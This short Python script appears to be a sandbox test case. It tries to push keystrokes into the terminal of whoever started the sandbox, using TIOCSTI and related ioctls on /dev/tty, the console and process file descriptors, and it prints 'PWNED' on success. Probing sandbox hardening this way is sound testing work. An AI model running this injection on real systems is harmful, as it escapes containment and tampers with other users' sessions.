# Types into the terminal of whoever started the sandbox.
# verdicts: WA
import fcntl
import os
import termios

got = False
fds = [0, 1, 2]
for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/proc/1/fd/2'):
  try:
    fds.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
  except OSError:
    pass
for fd in fds:
  for request, data in ((termios.TIOCSTI, b' '), (termios.TIOCSCTTY, b'\0' * 4), (0x541C, b'\3')):
    try:
      fcntl.ioctl(fd, request, data)
      got = True
    except OSError:
      pass
print('PWNED' if got else 'refused')
